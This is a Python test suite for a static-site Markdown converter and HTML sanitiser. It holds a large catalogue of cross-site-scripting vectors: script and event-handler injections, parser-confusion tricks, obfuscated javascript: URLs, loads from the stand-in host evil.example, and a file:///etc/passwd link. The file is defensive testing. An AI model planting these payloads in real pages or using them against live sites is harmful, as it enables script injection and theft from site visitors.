"""Hostile prose, converted and sanitised, as another parser and a real browser see it."""

from __future__ import annotations

import html as entities
import re
from collections.abc import Iterator
from itertools import product
from typing import TYPE_CHECKING

import pytest

from mingzhang.safe_content.reparse import check_page
from mingzhang.safe_content.sanitise import sanitise
from mingzhang.site_engine.prose.conversion import convert
from pelicanconf import MARKDOWN

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Route

RUN = "window.alive=(window.alive||0)+1"
AWAY = "evil.example"

HTML = [
    "<script>{x}</script>",
    "<script >{x}</script >",
    "<ScRiPt>{x}</sCrIpT>",
    "<script/x>{x}</script>",
    "<script src=//{away}/x.js></script>",
    "<script type=module>{x}</script>",
    "<scr<script>ipt>{x}</scr</script>ipt>",
    "<img src=x onerror={x}>",
    "<img src=x onerror='{x}'//",
    '<img """><script>{x}</script>">',
    "<img/src=x/onerror={x}>",
    "<img src=x:x onerror\n=\n{x}>",
    "<IMG SRC=x ONERROR={x}>",
    "<img src=//{away}/pixel.png>",
    "<img src=https://{away}/pixel.png>",
    "<img src='\\\\{away}\\pixel.png'>",
    "<img srcset='//{away}/p.png 1x'>",
    "<picture><source srcset=//{away}/p.png><img src=x></picture>",
    "<svg onload={x}>",
    "<svg/onload={x}//",
    "<svg><script>{x}</script></svg>",
    "<svg><script href=//{away}/x.js /></svg>",
    "<svg><animate onbegin={x} attributeName=x dur=1s></svg>",
    "<svg><set onbegin={x} attributeName=x></svg>",
    "<svg><a xlink:href='javascript:{x}'><text x=9 y=9>x</text></a></svg>",
    "<svg><use href='//{away}/x.svg#x'/></svg>",
    "<svg><image href='//{away}/x.png'/></svg>",
    "<svg><foreignObject><img src=x onerror={x}></foreignObject></svg>",
    "<svg><style><img src=x onerror={x}></style></svg>",
    '<svg></p><style><a id="</style><img src=x onerror={x}>">',
    "<math><mtext><table><mglyph><style><img src=x onerror={x}></style></mglyph></table></mtext></math>",
    "<math><mi//xlink:href='data:x,<script>{x}</script>'>",
    "<math><annotation-xml encoding=text/html><img src=x onerror={x}></annotation-xml></math>",
    "<math href=javascript:{x}>x</math>",
    "<iframe src=//{away}/></iframe>",
    "<iframe srcdoc='<script>parent.{x}</script>'></iframe>",
    "<iframe src=javascript:parent.{x}></iframe>",
    "<object data=//{away}/x.swf></object>",
    "<object data='data:text/html,<script>{x}</script>'></object>",
    "<embed src=//{away}/x.swf>",
    "<applet code=x></applet>",
    "<base href=//{away}/>",
    "<link rel=stylesheet href=//{away}/x.css>",
    "<link rel=preload as=script href=//{away}/x.js>",
    "<meta http-equiv=refresh content='0;url=//{away}/'>",
    "<meta http-equiv=refresh content='0;url=javascript:{x}'>",
    "<style>@import '//{away}/x.css';</style>",
    "<style>*{{background:url(//{away}/x)}}</style>",
    "<p style='background:url(//{away}/x)'>x</p>",
    "<td style='text-align: right; background:url(//{away}/x)'>x</td>",
    "<table background=//{away}/x><tr><td>x</table>",
    "<body onload={x}>",
    "<body background=//{away}/x>",
    "<input autofocus onfocus={x}>",
    "<select autofocus onfocus={x}></select>",
    "<textarea autofocus onfocus={x}></textarea>",
    "<details open ontoggle={x}>x</details>",
    "<video src=x onerror={x}></video>",
    "<video poster=//{away}/x></video>",
    "<audio src=//{away}/x autoplay></audio>",
    "<video><source onerror={x}></video>",
    "<marquee onstart={x}>x</marquee>",
    "<form action=//{away}/><button>x</button></form>",
    "<form><button formaction=javascript:{x}>x</button></form>",
    "<a ping=//{away}/ href=#x>x</a>",
    "<a href=#x onclick={x}>x</a>",
    "<p onmouseover={x}>x</p>",
    "<div tabindex=1 onfocus={x}>x</div>",
    '<noscript><p title="</noscript><img src=x onerror={x}>"></noscript>',
    "<template><script>{x}</script></template>",
    "<div><template shadowrootmode=open><img src=x onerror={x}></template></div>",
    '<xmp><p title="</xmp><img src=x onerror={x}>"></xmp>',
    '<title><p title="</title><img src=x onerror={x}>"></title>',
    '<noembed><img title="</noembed><img src=x onerror={x}>"></noembed>',
    "<plaintext><img src=x onerror={x}>",
    "<!--><img src=x onerror={x}>-->",
    "<!-- --!><img src=x onerror={x}> -->",
    "<![CDATA[<img src=x onerror={x}>]]>",
    "<?xml <img src=x onerror={x}> ?>",
    "<?php echo '<img src=x onerror={x}>' ?>",
    "<//img src=x onerror={x}>",
    "<p title='&quot;><img src=x onerror={x}>'>x</p>",
    "<a title='\"><img src=x onerror={x}>' href=#x>x</a>",
    "<form id=location><input name=href></form><a id=document name=cookie>x</a>",
    "<custom-tag onpointerenter={x} style='animation:x' onanimationstart={x}>x</custom-tag>",
    "<frameset onload={x}><frame src=//{away}/></frameset>",
    "<isindex type=image src=1 onerror={x}>",
    "<keygen autofocus onfocus={x}>",
    '<b/alt="1"onmouseover={x}>x</b>',
    "<img\x00src=x\x00onerror={x}>",
    "<img src=x\x0conerror={x}>",
    "<h2 id='\"><img src=x onerror={x}>'>x</h2>",
    "<time datetime='\"><img src=x onerror={x}>'>x</time>",
    "<ruby><rt><svg onload={x}></rt></ruby>",
]
AROUND = {
    "alone": "{}",
    "in a paragraph": "工会{}会员",
    "in a list": "- 甲\n- {}\n",
    "in a quotation": "> {}\n",
    "in a cell": "|甲|乙|\n|---|---|\n|{}|2|\n",
    "in a heading": "## {}\n",
    "in a note": '!!! note "{}"\n    {}\n',
    "in a footnote": "字[^1]\n\n[^1]: {}\n",
    "in a block": "<div markdown=1>\n{}\n</div>\n",
    "in a link": "[{}](a.md)",
    "in a title": '[甲](a.md "{}")',
    "in emphasis": "**{}**",
    "in code": "`{}`",
    "struck": "甲~~{}~~",
    "task": "- [x] {}",
    "alert": "> [!NOTE]\n> {}",
    "title of a box": '!!! note "{}"\n    甲',
    "class of a box": "!!! {}\n    甲",
    "language of a fence": "```{}\n甲\n```",
    "bare address": "https://a.example/{}",
    "details": "<details>\n<summary>{}</summary>\n{}\n</details>",
    "note": "甲[^1]\n\n[^1]: {}",
    "name of a note": "甲[^{}]\n\n[^{}]: 乙",
}
URLS = [
    "javascript:{x}",
    "JaVaScRiPt:{x}",
    "javascript://a%0a{x}",
    "\x01javascript:{x}",
    " javascript:{x}",
    "\u2028javascript:{x}",
    "\xa0javascript:{x}",
    "\u3000javascript:{x}",
    "\ufeffjavascript:{x}",
    "java\tscript:{x}",
    "java\nscript:{x}",
    "javascript\n:{x}",
    "javascript&colon;{x}",
    "&#106;avascript:{x}",
    "&#x6A;avascript&#58;{x}",
    "&#0000106avascript:{x}",
    "java&Tab;script:{x}",
    "java&NewLine;script:{x}",
    "&amp;#106;avascript:{x}",
    "%6aavascript:{x}",
    "vbscript:{x}",
    "livescript:{x}",
    "data:text/html,<script>{x}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload={x}>",
    "blob:https://{away}/x",
    "filesystem:https://{away}/x",
    "view-source:javascript:{x}",
    "feed:javascript:{x}",
    "jar:javascript:{x}!/x",
    "figure:javascript:{x}",
    "site://{away}/x",
    "{{filename}}javascript:{x}",
    "{{static}}//{away}/x",
    "javascript:{x}//{{filename}}",
    "//{away}/x",
    "/\\{away}/x",
    "\\\\{away}/x",
    "/\t/{away}/x",
    "https:{away}/x",
    "https:/\\{away}/x",
    "https://{away}\\@own.example/x",
    "ws://{away}/x",
    "file:///etc/passwd",
]
WAYS = {
    "link": "[甲]({})",
    "pointed link": "[甲](<{}>)",
    "named link": "[甲][1]\n\n[1]: {}\n",
    "autolink": "<{}>",
    "picture": "![甲]({})",
    "named picture": "![甲][1]\n\n[1]: {}\n",
    "a": '<a href="{}">甲</a>',
    "bare a": "<a href={}>甲</a>",
    "img": '<img src="{}" alt="甲">',
    "area": '<map name=m><area href="{}" shape=default></map>',
    "quotation": '<blockquote cite="{}">甲</blockquote>',
}


def _cases() -> Iterator[str]:
    for payload, around in product(HTML, AROUND.values()):
        yield around.replace("{}", payload.format(x=RUN, away=AWAY))
    for url, way in product(URLS, WAYS.values()):
        address = url.format(x=RUN.replace(" ", ""), away=AWAY)
        yield way.replace("{}", address)
        yield way.replace("{}", entities.escape(address))


CASES = list(dict.fromkeys(_cases()))


@pytest.fixture(scope="module")
def outputs() -> list[str]:
    return [sanitise(convert(case, MARKDOWN)[0]) for case in CASES]


def test_no_hostile_input_lives_for_the_second_parser(outputs):
    # Our own links are resolved between the sanitiser and the finished page
    pages = [re.sub('="(?:figure|site):', '="../', html) for html in outputs]
    alive = [case for case, html in zip(CASES, pages, strict=True) if any(check_page(html, "x"))]
    raw = sum(any(check_page(convert(case, MARKDOWN)[0], "x")) for case in CASES)
    print(f"{len(CASES)} hostile inputs, {raw} alive without the sanitiser, {len(alive)} with it")
    assert len(CASES) >= 250
    assert raw > len(CASES) / 2
    assert alive == []


LOOK = """() => {
    const found = [];
    for (const element of document.querySelectorAll('section *')) {
        for (const {name} of element.attributes)
            if (name.startsWith('on') || name === 'style' || name === 'srcdoc') found.push(name);
        if (/^(script|style|svg|math|iframe|object|embed|form|input|base|link|meta|template)$/i
            .test(element.localName)) found.push(element.localName);
        for (const event of ['mouseover', 'focus', 'toggle', 'pointerenter', 'error', 'load'])
            element.dispatchEvent(new Event(event));
    }
    for (const link of document.querySelectorAll('a, area')) {
        if (link.href && !/^(https?|mailto|tel|figure|site):$/.test(link.protocol))
            found.push(link.href);
    }
    return found;
}"""


def _visit(browser: Browser, sections: list[str]) -> tuple[int, list[str], list[str]]:
    """What ran, what a look at the tree finds, and which other hosts were asked."""
    body = "".join(f"<section>{html}</section>\n" for html in sections)
    asked: list[str] = []
    page = browser.new_page()

    def answer(route: Route) -> None:
        url = route.request.url
        if url == "http://own.example/":
            text = f"<!doctype html><meta charset=utf-8><title>x</title>{body}"
            route.fulfill(content_type="text/html; charset=utf-8", body=text)
            return
        if not url.startswith("http://own.example/"):
            asked.append(url)
        route.abort()

    page.route("**/*", answer)
    page.goto("http://own.example/", wait_until="load")
    found = page.evaluate(LOOK)
    page.wait_for_timeout(300)
    ran = page.evaluate("() => window.alive || 0")
    sections_seen = page.locator("section").count()
    page.close()
    assert sections_seen == len(sections)
    return ran, found, asked


@pytest.mark.browser
def test_no_hostile_input_lives_in_a_browser(browser, outputs):
    ran, found, asked = _visit(browser, outputs)
    print(f"{len(outputs)} hostile inputs: {ran} ran, {len(found)} found, {len(asked)} requests")
    assert (ran, found, asked) == (0, [], [])


@pytest.mark.browser
def test_without_the_sanitiser_they_do_live(browser):
    """So that the test above is known to see."""
    sections = [payload.format(x=RUN, away=AWAY) for payload in HTML[7:21]]
    ran, found, asked = _visit(browser, sections)
    assert ran > 5
    assert found
    assert asked
